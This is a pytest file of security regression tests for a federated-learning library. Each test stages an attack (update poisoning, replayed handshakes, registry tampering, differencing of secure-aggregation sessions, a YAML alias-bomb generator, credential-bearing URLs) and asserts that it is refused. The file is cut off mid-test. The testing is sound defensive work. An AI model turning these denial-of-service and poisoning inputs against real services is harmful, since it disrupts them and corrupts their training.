def test_r2_a_second_reveal_is_refused_whatever_the_request_points_at_or_the_bucket_holds(fed):
    """The malicious aggregator asks aws again in the same session, calling gcp dropped (both of
    gcp's secrets: its update unmasked), after moving aws's storage in the config to a fresh
    path, and after deleting everything aws keeps in its bucket."""
    config, ring = fed.config, fed.ring
    session = secagg_session(config, 1, "dd" * 8)
    inboxes = relay_setups({c: make_setup(ring, c, session) for c in CLOUDS})
    peers = open_inbox(ring, "aws", session, inboxes["aws"])
    key = client_update_key(ring, "aws")
    make_reveal(ring, "aws", session, peers, list(CLOUDS), [], key, reveal_ledger(config, ring, "aws"))

    moved = config.model_dump()
    aws_bucket = config.storage_url(config.cloud("aws"))
    moved["clouds"] = [{**c, "storage": aws_bucket + "/again"} if c["name"] == "aws" else c for c in moved["clouds"]]
    moved = parse_config(moved)
    assert moved.storage_url(moved.cloud("aws")) != config.storage_url(config.cloud("aws"))
    with pytest.raises(UpdateRejected) as info:
        make_reveal(ring, "aws", session, peers, ["aws", "azure"], ["gcp"], key, reveal_ledger(moved, keyring(moved), "aws"))
    assert info.value.reason is Reason.ALREADY_REVEALED

    bucket = config.storage_url(config.cloud("aws"))
    fs, root = storage.filesystem(bucket, None)
    if fs.exists(root):
        fs.rm(root, recursive=True)  # the storage provider (or the aggregator, with write access) empties aws's bucket
    with pytest.raises(UpdateRejected) as info:
        make_reveal(ring, "aws", session, peers, ["aws", "azure"], ["gcp"], key, reveal_ledger(config, ring, "aws"))
    assert info.value.reason is Reason.ALREADY_REVEALED


def test_r3_a_codec_description_of_the_wrong_types_is_a_named_rejection_and_the_round_goes_on(fed):
    """gcp, with its real key, describes its (default, empty) codec chain as `[[{}, {}]]` and
    other type-confused steps; once this raised TypeError out of the decode path and aborted the
    round under the default config."""
    for description in ("[[{}, {}]]", "[[[], {}]]", '[[null, {"cast": {}}]]', "[[1, 2]]", '[{"int8": {}}]'):
        for client in ("aws", "azure"):
            fed.upload(client)
        fed.plant("gcp", _sealed_payload(fed, "gcp", _payload(fed, codecs=description)))
        adapter, report = fed.aggregate()
        assert report.accepted == ["aws", "azure"], description
        assert report.rejected["gcp"].reason == "malformed", (description, report.rejected)


def test_r4_a_client_claiming_the_example_cap_moves_the_mean_by_at_most_its_share(fed):
    """gcp, with its real key, claims `aggregation.max_examples` (10^9) examples, the most a
    deployed aggregator, which does not know its shard, lets it claim, and sends a delta of its
    choosing. Without a bound it owns the FedAvg mean (share 10^9 / (10^9 + 2·shard) ≈ 1)."""
    config = fed.config
    cap = config.aggregation.max_examples
    poison = {name: torch.full_like(value, 0.5) for name, value in trained_part(config.lora, fed.adapter).items()}
    for client in ("aws", "azure"):
        fed.upload(client)
    honest = _fedavg_of(fed, ["aws", "azure"])
    said = SaidByClient(train_loss=1.0, train_s=1.0, encode_s=0.1, update_norm=1.0).to_json()
    fed.plant("gcp", _sealed_payload(fed, "gcp", _payload(fed, poison, num_examples=str(cap), report=said)))
    adapter, report = aggregate(config, round_intake(config, 1, list(CLOUDS), fed.keys(), fed.adapter, parent=fed.parent), fed.adapter)
    assert report.accepted == list(CLOUDS) and report.reports["gcp"].num_examples == cap  # within the limits: accepted
    # adapter = share·(global + poison) + (1 − share)·honest, so share is read off the poisoned entries
    name = next(iter(poison))
    moved = (adapter[name] - honest[name]).double()
    towards = (fed.adapter[name] + poison[name] - honest[name]).double()
    share = float((moved * towards).sum() / (towards * towards).sum())
    assert 0.3 < share <= config.aggregation.max_weight_share + 1e-6, share


def _junk_setups(monkeypatch, sender: str, junk) -> None:
    """`sender`'s setup step as a hostile client writes it: well-formed, its per-peer blobs junk."""
    import tasks.secagg

    honest = tasks.secagg.make_setup

    def hostile(ring, me, session):
        message = honest(ring, me, session)
        if me != sender:
            return message
        return type(message)(message.mask_public, {peer: junk(blob) for peer, blob in message.sealed.items()})

    monkeypatch.setattr(tasks.secagg, "make_setup", hostile)


def _flipped_tail(blob: str) -> str:
    raw = bytearray(bytes.fromhex(blob))
    raw[-1] ^= 0x01  # the envelope is addressed right; its ciphertext does not authenticate
    return raw.hex()


@pytest.mark.parametrize("junk", [lambda blob: os.urandom(len(blob) // 2).hex(), _flipped_tail], ids=["random", "ciphertext"])
def test_r5_junk_setup_messages_reject_their_sender_and_the_round_completes(tmp_path, corpus_dir, tiny_model_dir, monkeypatch, junk):
    """gcp's setup is well-formed, but the blobs it seals for its peers are junk: random bytes
    (named at the relay), or envelopes addressed right whose ciphertext does not open (named by the
    peers, whose authenticated complaints the aggregator reads). Once every honest peer refused
    to mask, every attempt failed, and nothing named gcp."""
    from flows.federated_training import federated_training
    from tests.conftest import write_config

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["training"]["rounds"] = 1
    raw["aggregation"]["min_clients"] = 2
    raw["secure_aggregation"] = {"enabled": True, "threshold": 2}
    _junk_setups(monkeypatch, "gcp", junk)
    manifest = federated_training(str(write_config(tmp_path, raw)))[-1]
    assert manifest.round == 1 and sorted(manifest.accepted) == ["aws", "azure"]
    assert manifest.rejected["gcp"].reason == "bad_setup", manifest.rejected
    assert manifest.perplexity < math.inf


def test_r6_rerunning_a_secure_session_releases_nothing_new(tmp_path, corpus_dir, tiny_model_dir):
    """A curious aggregator runs round 1's secure session 16 times. Training is deterministic, so
    each client releases the same clipped delta each time; with fresh noise per release, the
    average of the unmasked sums closes in on the noiseless mean (1/√16 of the noise), while ε
    counts one release. Each release must be the same, so averaging gains nothing and the
    reported ε is the true one."""
    from fedlib.privacy.accountant import epsilon_after, participation_after, privacy_spent
    from fedlib.secagg.fixedpoint import MODULUS, decode, from_wire
    from fedlib.secagg.protocol import unmask_sum

    privacy = {"enabled": True, "clip_norm": 0.5, "noise_multiplier": 1.0, "delta": 1e-5}
    fed = _federation(tmp_path, corpus_dir, tiny_model_dir, secure_aggregation={"enabled": True, "threshold": 2}, privacy=privacy)
    config, ring = fed.config, fed.ring
    template = trained_part(config.lora, fed.adapter)
    generator = torch.Generator().manual_seed(7)
    deltas = {c: {n: torch.randn(v.shape, generator=generator) for n, v in template.items()} for c in CLOUDS}
    # what the update path's clip filter hands the mask filter: each delta at norm C
    clipped = {
        c: {n: v * (0.5 / math.sqrt(sum(float(t.pow(2).sum()) for t in d.values()))) for n, v in d.items()} for c, d in deltas.items()
    }
    noiseless = {n: sum(clipped[c][n] for c in CLOUDS).double() / len(CLOUDS) for n in template}
    keys = {c: aggregator_update_key(ring, c) for c in CLOUDS}
    releases = []
    for attempt in range(16):
        session, setups, masked, peers = _masked_session(fed, attempt + 1, CLOUDS, clipped)
        total = {n: sum(from_wire(m.tensors)[n] for m in masked.values()) % MODULUS for n in template}
        reveals = {
            c: make_reveal(ring, c, session, peers[c], list(CLOUDS), [], client_update_key(ring, c), reveal_ledger(config, ring, c))
            for c in CLOUDS
        }
        clean = unmask_sum(total, session, {c: s.mask_public for c, s in setups.items()}, list(CLOUDS), [], reveals, keys)
        releases.append(decode(clean, config.secure_aggregation.frac_bits))

    def distance(release) -> float:
        return math.sqrt(sum(float((release[n].double() - noiseless[n]).pow(2).sum()) for n in template))

    averaged = {n: sum(r[n].double() for r in releases) / len(releases) for n in template}
    assert distance(releases[0]) > 0.1  # the noise is there
    assert distance(averaged) > 0.99 * distance(releases[0])  # and 16 releases strip none of it
    spent = privacy_spent(config.privacy, participation_after({}, CLOUDS))
    assert spent.epsilon == pytest.approx(epsilon_after(1, 1.0, 1.0, 1e-5))  # one release counted, one made
    assert epsilon_after(16, 1.0, 1.0, 1e-5) > 3 * spent.epsilon  # what 16 fresh releases would have cost


def test_r7_a_version_planted_in_the_registry_never_becomes_champion(tmp_path, corpus_dir, tiny_model_dir):
    """Someone with registry write plants versions with a perplexity tag of 1.0: one tagged as a
    round that never was, one copying a real round's tags over another round's artifact. The
    champion is chosen among signed rounds' adapters only, by their signed perplexity."""
    from mlflow.tracking import MlflowClient

    from flows.federated_training import federated_training
    from tasks.registry import register_round
    from tests.conftest import write_config

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["training"]["rounds"] = 2
    config_path = write_config(tmp_path, raw)
    manifests = federated_training(str(config_path))
    config = parse_config(raw)
    client = MlflowClient(config.tracking_uri, registry_uri=config.tracking_uri)
    name = config.registered_model_name
    real = {int(v.tags["round"]): v for v in client.search_model_versions(f"name = '{name}'")}
    run_id = manifests[-1].mlflow_run_id
    planted = [
        client.create_model_version(
            name, f"runs:/{run_id}/adapters/round-0001", run_id=run_id, tags={**real[2].tags, "round": "9", "perplexity": "1.0"}
        ),
        client.create_model_version(
            name, f"runs:/{run_id}/adapters/round-0001", run_id=run_id, tags={**real[2].tags, "perplexity": "1.0"}
        ),  # round 2's tags over round 1's adapter
    ]
    champion = register_round.fn(config, run_id, manifests[-1], checkpoint_store(config).adapter_of(manifests[-1])[0])
    assert champion not in {v.version for v in planted}
    best = min(manifests[1:], key=lambda m: (m.perplexity, m.round))
    assert champion == real[best.round].version

    # The perplexity comes from each round's score record, beside the manifest in the checkpoint
    # bucket. Whoever holds the bucket edits the other round's score to 0 (its signature no longer
    # verifies), then puts there a score the aggregator did sign, of loss 0, but of another adapter
    # (a rolled-back lineage's round, same keys). Neither makes that round the champion.
    store = checkpoint_store(config)
    worse = next(m for m in manifests[1:] if m.round != best.round)
    score_path = Path(urlparse(store.score_url(worse.round)).path)
    record = json.loads(score_path.read_text())
    replays = [
        json.dumps({**record, "manifest": json.dumps({**json.loads(record["manifest"]), "eval_loss": 0.0})}).encode(),
        store._signed(score_to_json(RoundScore(config.federation.id, worse.round, "0" * 64, 0.0))),
    ]
    for replay in replays:
        score_path.write_bytes(replay)
        champion = register_round.fn(config, run_id, manifests[-1], store.adapter_of(manifests[-1])[0])
        assert champion == real[best.round].version


@pytest.mark.parametrize(
    ("where", "value", "secret"),
    [
        ("data.urls", ["https://acct.blob.core.windows.net/c/train.jsonl?sv=2024-08-04&sp=r&sig=SASSIGNATURE"], "SASSIGNATURE"),
        ("evaluation.data", ["https://bucket.s3.amazonaws.com/eval.jsonl?X-Amz-Credential=AKIAXXX&X-Amz-Signature=PRESIGNED"], "PRESIGNED"),
        ("data.urls", ["https://ghp_TOKENASUSER@files.internal/train.jsonl"], "ghp_TOKENASUSER"),
        ("clouds[0].storage_options", {"headers": {"Authorization": "Bearer AUTHTOKEN"}}, "AUTHTOKEN"),
        ("tracking.uri", "https://mlflow.internal/?token=TRACKINGTOKEN", "TRACKINGTOKEN"),
    ],
)
def test_r8_credentials_in_urls_headers_and_queries_are_refused_and_never_echoed(
    tmp_path, corpus_dir, tiny_model_dir, where, value, secret
):
    """Each of these was accepted and then logged to MLflow params and Prefect parameters."""
    from fedlib.redaction import loggable

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir)
    section, _, field = where.partition(".")
    if section == "clouds[0]":
        raw["clouds"][0][field] = value
    else:
        raw.setdefault(section, {})[field] = value
    with pytest.raises(ConfigError) as info:
        parse_config(raw, "fed.yaml")
    assert where in str(info.value) and secret not in str(info.value)
    assert secret not in json.dumps(loggable(raw))  # and what slips past is redacted on the way out


def test_r8_a_config_url_with_a_password_is_not_echoed_in_errors():
    from fedlib.config import load_config

    for url in ("https://alice:HUNTER2@127.0.0.1:9/fed.yaml", "http://127.0.0.1:9/fed.yaml?sig=CONFIGSAS"):
        with pytest.raises(ConfigError) as info:
            load_config(url)
        assert "HUNTER2" not in str(info.value) and "CONFIGSAS" not in str(info.value) and "127.0.0.1:9" in str(info.value)


def test_r9_what_one_client_says_of_itself_does_not_steer_the_federation(tmp_path, corpus_dir, tiny_model_dir):
    """gcp states a download of 10^12 bytes (to trip `budget.bytes`), a training time of an hour
    in a round the aggregator saw take 3 s, and a validation loss of 0.001 over 10^9 tokens (to
    fake the federation's score). The aggregator holds what it can measure to its measurements,
    and a median bounds the rest; the figures stay labelled as the clients' word in MLflow."""
    from fedlib.round.cost import round_cost
    from fedlib.round.manifest import RoundPlan, measured_reports, round_manifest
    from fedlib.round.outcome import PhaseTimings, RoundOutcome
    from fedlib.round.planning import budget_stop, step_budgets
    from fedlib.update.intake import AggregationReport
    from fedlib.update.report import ClientReport
    from tasks.tracking import CLIENT_STATED

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["budget"] = {"bytes": 50 << 20}
    raw["training"].update(step_budget="deadline")
    raw["orchestration"] = {"round_deadline_s": 60}
    config = parse_config(raw)
    previous = Manifest(config.federation.id, 0, 3, "run", adapter_bytes=1 << 20)

    def report(client: str, **said) -> ClientReport:
        honest = dict(
            num_examples=10,
            train_loss=2.0,
            bytes_uploaded=1 << 20,
            object_url="x",
            train_s=2.0,
            encrypt_upload_s=0.1,
            update_norm=1.0,
            local_steps=10,
            bytes_downloaded=(1 << 20) + 600,
            validation_loss=2.0 + 0.1 * len(client),
            validation_tokens=1000,
        )
        return ClientReport(client, 1, **{**honest, **said})

    def manifest(gcp: ClientReport) -> Manifest:
        reports = {"aws": report("aws"), "azure": report("azure"), "gcp": gcp}
        outcome = RoundOutcome(AggregationReport(accepted=list(CLOUDS), reports=reports), {c: 3.0 for c in CLOUDS}, PhaseTimings(3.0))
        plan = RoundPlan(config.federation.id, 1, 5, list(CLOUDS), {c: 10 for c in CLOUDS})
        cost = round_cost(config.profiles, config.orchestration.round_deadline_s, measured_reports(outcome, previous), [])
        return round_manifest(previous, plan, outcome, cost, {}, ("run", None))

    honest, lying = (
        manifest(report("gcp")),
        manifest(report("gcp", bytes_downloaded=10**12, train_s=3600.0, validation_loss=0.001, validation_tokens=10**9)),
    )
    assert budget_stop(config.budget, [previous, honest]) is None
    assert budget_stop(config.budget, [previous, lying]) is None  # its downloads held to what the aggregator wrote
    assert lying.clients["gcp"].train_s == 3.0  # no longer than the aggregator's own clock saw
    assert step_budgets(config.training, config.profiles, config.orchestration.round_deadline_s, ["aws", "azure"], lying) == step_budgets(
        config.training, config.profiles, config.orchestration.round_deadline_s, ["aws", "azure"], honest
    )
    scores = sorted(honest.clients[c].validation_loss for c in ("aws", "azure"))
    assert scores[0] <= lying.federated_eval_loss <= scores[1]  # the median: between honest scores
    assert "client_stated/federated_loss" in CLIENT_STATED and "bytes_downloaded" in CLIENT_STATED


def test_r10_a_multi_process_client_listens_on_loopback_only(tiny_model_dir):
    """While a client trains in two processes, every socket its process tree listens on is a
    loopback one: `torch.distributed.run`'s rendezvous store once listened on every interface,
    unauthenticated, for the whole run."""
    import psutil

    from fedlib.config import LoraSettings
    from fedlib.examples import Examples
    from fedlib.model.base import adapter_state, attach_lora, load_base_model
    from fedlib.model.distributed import train_in_processes
    from fedlib.model.pool import ModelKey
    from fedlib.model.training import TrainingPlan
    from fedlib.placement import Placement

    lora = LoraSettings(r=4, alpha=8, target_modules=["q_proj", "v_proj"])
    placement = Placement("cpu", "fp32")
    start = adapter_state(attach_lora(load_base_model(str(tiny_model_dir), placement), lora, 3))
    blocks = torch.randint(3, 1000, (16, 32), generator=torch.Generator().manual_seed(2))
    listening: list[tuple[str, str]] = []

    def look(_step) -> None:  # called while rank 0 is training: the whole tree is up
        tree = psutil.Process().children(recursive=True)
        assert len(tree) >= 2
        for process in tree:
            for conn in process.net_connections(kind="inet"):
                if conn.status == psutil.CONN_LISTEN:
                    listening.append((process.name(), conn.laddr.ip))

    plan = TrainingPlan(steps=2, batch_size=8, learning_rate=1e-2, seed=5, processes=2)
    train_in_processes(ModelKey(str(tiny_model_dir), placement, lora, 3), start, Examples.from_blocks(blocks), None, plan, 4, look)
    assert listening, "no listening socket seen: the probe saw nothing"
    assert all(ip in ("127.0.0.1", "::1") for _, ip in listening), listening


def test_r11_recorded_hellos_reopen_nothing_and_one_key_cannot_hold_every_session(fed, split_server):
    """Replaying 16 recorded hellos to a restarted split server filled `split.max_sessions` and
    locked genuine clients out for the TTL; and one client's key alone could hold every session.
    Now a hello answers a challenge of this server process, and a client holds at most its share."""
    from fedlib.split.server import http_server
    from tasks.split_server import split_server as middle_of

    state, url = split_server
    limit = fed.config.split.max_sessions
    recorded = []
    for _ in range(limit):
        client = _connect(fed.config, url, "aws", keep_wire=True)
        recorded.append(client.transport.wire[2])
    assert sum(s.channel.peer == "aws" for s in state.sessions.values()) == state.share < limit
    _connect(fed.config, url, "gcp")  # aws's key did not lock gcp out
    fresh = middle_of(fed.config)  # the server restarts: it remembers no session
    httpd = http_server(fresh)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    other = f"http://127.0.0.1:{httpd.server_address[1]}"
    try:
        for hello in recorded:
            code, refusal = _post(other, "/hello", hello, {"Content-Type": "application/json"})
            assert (code, refusal["reason"]) == (400, "stale"), refusal
        assert not fresh.sessions
        genuine = _connect(fed.config, other, "gcp")
        assert set(genuine.server_state()) == set(fresh.trainer.state())
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_r12_under_secure_aggregation_the_aggregator_learns_no_figure_of_a_clients_data(tmp_path, corpus_dir, tiny_model_dir):
    """Under secure aggregation the aggregator learned each client's pre-clip update norm, its
    training and validation losses (in the sealed report, MLflow and the run logs), and a plain
    sha256 of its examples, which confirms a guessed dataset by hashing the guess. Now it learns
    what the threat model grants (who took part, the counts, the sum), and a client's data digest
    is keyed by a secret of the client's."""
    import logging

    from mlflow.tracking import MlflowClient

    from fedlib.progress import ClientStep, ClientTrained
    from flows.federated_training import federated_training
    from tasks.from_config import client_data
    from tests.conftest import write_config

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["training"]["rounds"] = 1
    raw["aggregation"]["min_clients"] = 2
    raw["secure_aggregation"] = {"enabled": True, "threshold": 2}

    class Collect(logging.Handler):
        def __init__(self) -> None:
            super().__init__(logging.INFO)
            self.events: list = []

        def emit(self, record: logging.LogRecord) -> None:
            if hasattr(record, "event"):
                self.events.append(record.event)

    progress = logging.getLogger("fedlib.progress")
    collect = Collect()
    progress.addHandler(collect)
    try:
        manifest = federated_training(str(write_config(tmp_path, raw)))[-1]
    finally:
        progress.removeHandler(collect)
    assert manifest.round == 1 and sorted(manifest.accepted) == sorted(CLOUDS)

    config = parse_config(raw)
    ring = keyring(config)
    for client, report in manifest.clients.items():
        assert report.train_loss is None and report.update_norm is None and report.validation_loss is None, report
        guessed = client_data(config, client, aggregator_update_key(ring, client), None).train  # the shard the aggregator dealt
        assert report.data_digest and report.data_digest != guessed.digest()
    events = collect.events
    steps = [e for e in events if isinstance(e, ClientStep)]
    trained = [e for e in events if isinstance(e, ClientTrained)]
    assert steps and trained and all(e.loss is None for e in steps + trained)
    metrics = MlflowClient(config.tracking_uri).get_run(manifest.mlflow_run_id).data.metrics
    assert not [name for name in metrics if name.endswith(("/train_loss", "/update_norm", "/validation_loss"))]
    assert "client/aws/num_examples" in metrics  # what the threat model grants is still there


def test_r13_another_tokenizer_or_chat_template_is_another_base(tmp_path, tiny_model_dir):
    """A party whose folder has the federation's weights but its own chat template, or its own
    token ids, trained a different model and sent the update anyway: the revision the lineage
    records covered config and weights only."""
    from fedlib.model.base import BaseModelMismatch, base_revision, check_base_model

    federation_trains = base_revision(str(tiny_model_dir))
    same = tmp_path / "same"
    shutil.copytree(tiny_model_dir, same)
    check_base_model(federation_trains, str(same))  # a faithful copy is the same base

    template = tmp_path / "template"
    shutil.copytree(tiny_model_dir, template)
    settings = json.loads((template / "tokenizer_config.json").read_text())
    settings["chat_template"] = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    (template / "tokenizer_config.json").write_text(json.dumps(settings))

    vocab = tmp_path / "vocab"
    shutil.copytree(tiny_model_dir, vocab)
    tokenizer = json.loads((vocab / "tokenizer.json").read_text())
    ids = tokenizer["model"]["vocab"]
    first, second = sorted(ids)[10:12]
    ids[first], ids[second] = ids[second], ids[first]
    (vocab / "tokenizer.json").write_text(json.dumps(tokenizer))

    for other in (template, vocab):
        with pytest.raises(BaseModelMismatch, match="the federation trains sha256:"):
            check_base_model(federation_trains, str(other))


def _alias_bomb(levels: int) -> str:
    """The billion-laughs shape as a flow mapping: each level names the one below nine times, so
    a few hundred bytes stand for 9**levels leaves once anything walks the value."""
    entries = ['l0: &l0 "lol"']
    for level in range(1, levels + 1):
        entries.append(f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 9) + "]")
    return "{" + ", ".join(entries) + "}"


def test_r14_a_yaml_alias_bomb_is_refused_before_it_expands(tmp_path, corpus_dir, tiny_model_dir):
    """A config whose `storage_options` hold a nine-level alias bomb (about 10^9 leaves from a
    few hundred bytes) stalled the aggregator while the config was checked for secrets; from a file
    and from a config URL it is now a named refusal, as are configs too large, too deep or of too
    many values to be a page of settings."""
    import yaml

    from fedlib.config import MAX_CONFIG_BYTES, load_config

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir)
    plain = yaml.safe_dump(raw)
    raw["clouds"][0]["storage_options"] = "BOMB"
    bomb = yaml.safe_dump(raw).replace("BOMB", _alias_bomb(9), 1)
    assert len(_alias_bomb(9)) < 600
    path = tmp_path / "bomb.yaml"
    path.write_text(bomb)
    assert len(_alias_bomb(9)) < 600
    for source in (str(path), path.as_uri()):
        with pytest.raises(ConfigError, match=r"aliases .* are not accepted") as info:
            load_config(source)
        assert str(info.value).startswith(source)

    deep = tmp_path / "deep.yaml"
    deep.write_text(plain + "extra: " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(ConfigError, match="nested deeper than"):
        load_config(deep)
    wide = tmp_path / "wide.yaml"
    wide.write_text(plain + "extra: [" + ",".join(["1"] * 150_000) + "]\n")
    with pytest.raises(ConfigError, match="values; a config is far smaller"):
        load_config(wide)
    big = tmp_path / "big.yaml"
    big.write_text(plain + "# " + "x" * MAX_CONFIG_BYTES + "\n")
    with pytest.raises(ConfigError, match="larger than 1 MiB"):
        load_config(big)
    fine = tmp_path / "fine.yaml"
    fine.write_text(plain)
    assert load_config(fine).federation.id == "test"  # an ordinary config still loads


# ---- The third review (issue 44): whoever starts a client's runs, the orchestrator, as attacker. ----


def _masked_session(fed: Federation, attempt: int, participants, deltas):
    """One secure session of round 1 over `participants`, each masking its own fixed delta."""
    config, ring = fed.config, fed.ring
    session = secagg_session(config, 1, f"{attempt:016x}")
    setups = {c: make_setup(ring, c, session) for c in participants}
    inboxes = relay_setups(setups)
    masked = {
        c: masked_update(
            mask_settings(config), c, deltas[c], 10, 1, SecureRound(ring, session, inboxes[c], float(len(participants)), parent=fed.parent)
        )
        for c in participants
    }
    peers = {c: open_inbox(ring, c, session, inboxes[c]) for c in participants}
    return session, setups, masked, peers


def test_o3_differencing_two_sessions_of_one_round_is_refused(tmp_path, corpus_dir, tiny_model_dir):
    """The aggregator runs round 1's session with every client and unmasks it, then runs the round
    again saying aws "failed its setup": `threshold` survivors suffice, and the difference of the two
    unmasked sums was aws's update (error ~6e-8 at 6dfc021, where each session could reveal once).
    Now each client pins the survivor set of its first reveal in a round, on its own machine, and
    answers no later session of the round for another set; two majorities share a client, so the
    second sum never unmasks. A re-run with the same survivors is still answered (a crash)."""
    from fedlib.secagg.fixedpoint import MODULUS, from_wire

    fed = _federation(tmp_path, corpus_dir, tiny_model_dir, secure_aggregation={"enabled": True, "threshold": 2})
    config, ring = fed.config, fed.ring
    template = trained_part(config.lora, fed.adapter)
    generator = torch.Generator().manual_seed(3)
    deltas = {c: {n: 0.01 * torch.randn(v.shape, generator=generator) for n, v in template.items()} for c in CLOUDS}
    keys = {c: aggregator_update_key(ring, c) for c in CLOUDS}

    def reveal(session, peers, client, survivors):
        return make_reveal(
            ring, client, session, peers[client], survivors, [], client_update_key(ring, client), reveal_ledger(config, ring, client)
        )

    session, setups, masked, peers = _masked_session(fed, 1, CLOUDS, deltas)
    first = {c: reveal(session, peers, c, list(CLOUDS)) for c in CLOUDS}
    total = {n: sum(from_wire(m.tensors)[n] for m in masked.values()) % MODULUS for n in template}
    unmask_sum(total, session, {c: s.mask_public for c, s in setups.items()}, list(CLOUDS), [], first, keys)  # the honest release

    rest = ("azure", "gcp")
    again, _, _, peers2 = _masked_session(fed, 2, rest, deltas)
    for client in rest:
        with pytest.raises(UpdateRejected) as info:
            reveal(again, peers2, client, list(rest))
        assert info.value.reason is Reason.ALREADY_REVEALED and "round 1" in info.value.detail
    # a re-run after a crash, with the same survivors, is answered
    rerun, _, _, peers3 = _masked_session(fed, 3, CLOUDS, deltas)
    assert all(reveal(rerun, peers3, c, list(CLOUDS)) for c in CLOUDS)
    # and no client reveals for fewer survivors than its noise share was scaled to
    few = _federation(tmp_path / "few", corpus_dir, tiny_model_dir, secure_aggregation={"enabled": True, "threshold": 2})
    raw = few.config.model_dump()
    raw["aggregation"]["min_clients"] = 3
    strict = parse_config(raw)
    small = secagg_session(strict, 1, "ab" * 8)
    inboxes = relay_setups({c: make_setup(few.ring, c, small) for c in CLOUDS})
    with pytest.raises(UpdateRejected) as info:
        make_reveal(
            few.ring,
            "aws",
            small,
            open_inbox(few.ring, "aws", small, inboxes["aws"]),
            ["aws", "gcp"],
            ["azure"],
            client_update_key(few.ring, "aws"),
            reveal_ledger(strict, few.ring, "aws"),
        )
    assert info.value.reason is Reason.TOO_FEW_SURVIVORS


def test_o7_step_budgets_follow_the_aggregators_clock_not_a_clients_word(tmp_path, corpus_dir, tiny_model_dir):
    """Three honest clients whose timings differ (the aggregator timed 20, 30 and 40 s for 10 steps
    each); gcp states it trained in a millisecond, and 1,000 steps. At 6dfc021 the median of the
    clients' stated `train_s` set every budget, so gcp's word took aws's budget from 15 steps to 23
    (the old test had every honest client state the same time). Now the budgets are the same
    whatever any client states."""
    from fedlib.round.manifest import RoundPlan, round_manifest
    from fedlib.round.outcome import PhaseTimings, RoundOutcome
    from fedlib.round.planning import step_budgets
    from fedlib.update.intake import AggregationReport
    from fedlib.update.report import ClientReport

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["training"].update(step_budget="deadline")
    raw["orchestration"] = {"round_deadline_s": 60}
    config = parse_config(raw)
    previous = Manifest(config.federation.id, 0, 3, "run", adapter_bytes=1 << 20)
    clock = {"aws": 20.0, "gcp": 30.0, "azure": 40.0}

    def manifest(**gcp_says) -> Manifest:
        def report(client: str) -> ClientReport:
            said = dict(train_s=clock[client] - 1.0, local_steps=10) | (gcp_says if client == "gcp" else {})
            return ClientReport(client, 1, 10, 2.0, 1 << 20, "x", encrypt_upload_s=0.1, update_norm=1.0, **said)

        reports = {c: report(c) for c in CLOUDS}
        outcome = RoundOutcome(AggregationReport(accepted=list(CLOUDS), reports=reports), dict(clock), PhaseTimings(40.0))
        plan = RoundPlan(config.federation.id, 1, 5, list(CLOUDS), {c: 10 for c in CLOUDS})
        return round_manifest(previous, plan, outcome, {}, {}, ("run", None))

    def budgets(m: Manifest) -> dict[str, int]:
        return step_budgets(config.training, config.profiles, config.orchestration.round_deadline_s, list(CLOUDS), m)

    honest = budgets(manifest())
    assert honest == {"aws": 15, "gcp": 15, "azure": 11}  # 45 s ÷ the median 3 s a step; azure held to its own 4 s
    assert budgets(manifest(train_s=0.001, local_steps=1000)) == honest
    assert budgets(manifest(train_s=3600.0, local_steps=1)) == honest


def _sovereign_federation(tmp_path: Path, corpus_dir: Path, tiny_model_dir: Path, **sections) -> tuple[dict, Path]:
    """A federation whose parties hold their own keys (a `keyring` section), each client training on
    its own files, as across organisations: the raw config and where it is written."""
    import yaml

    from fedlib.wire.keys import AGGREGATOR, new_party_keys, party_pem

    keys = {party: new_party_keys(party) for party in (AGGREGATOR, *CLOUDS)}
    for party, pair in keys.items():
        path = tmp_path / "keys" / f"{party}.pem"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(party_pem(pair))
        path.chmod(0o600)
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS, **sections)
    raw.update(_keyring_config(tmp_path, keys[AGGREGATOR], {c: keys[c] for c in CLOUDS}, f"file:{tmp_path}/keys/{{party}}.pem"))
    raw["federation"]["seed"] = 7
    groups = {"aws": "tragedies", "gcp": "comedies", "azure": "histories"}
    raw["clouds"] = [{"name": c, "data": [f"file://{corpus_dir}/{groups[c]}/*.md"]} for c in CLOUDS]
    raw["evaluation"] = {"data": [f"file://{corpus_dir}/tragedies/macbeth.md"], "max_blocks": 4, "batch_size": 4}
    path = tmp_path / "federation.yaml"
    path.write_text(yaml.safe_dump(raw))
    return raw, path


STRICT = {
    "secure_aggregation": {"enabled": True, "threshold": 2},
    "privacy": {"enabled": True, "clip_norm": 0.5, "noise_multiplier": 1.0, "delta": 1e-5, "epsilon_budget": 50.0},
    "split": {
        "cut": 1,
        "require_tee": True,
        "attestation": {"verifier": "amd-sev-snp", "measurement": "ab" * 48, "min_tcb": {"snp": 20}},
    },
}


def test_o1_a_client_holds_every_run_to_the_privacy_policy_it_pinned(tmp_path, corpus_dir, tiny_model_dir, capsys):
    """The orchestrator starts aws's `train` step without its `secure` request, under the
    federation's own config (secure aggregation and DP on). At 6dfc021 aws trained and sealed its
    update unmasked, which the aggregator opened exactly; and a config with secure aggregation, DP
    or the TEE requirement switched off, or weakened, passed aws's trust check, which pinned the
    public keys only. Now aws pinned its policy with `fedlib keys trust`, and every step refuses a
    weaker config or request in one line naming the field; only aws's own command lowers the pin."""
    from fedlib.privacy.policy import PolicyRefused
    from fedlib.wire.keys import AGGREGATOR
    from fedlib_cli.main import main
    from tasks.client import train_client

    raw, path = _sovereign_federation(tmp_path, corpus_dir, tiny_model_dir, **STRICT)
    for party in (AGGREGATOR, "aws"):
        assert main(["keys", "trust", str(path), "--party", party]) == 0
    config = parse_config(raw)
    aggregator = keyring(config, AGGREGATOR)
    store = checkpoint_store(config, aggregator)
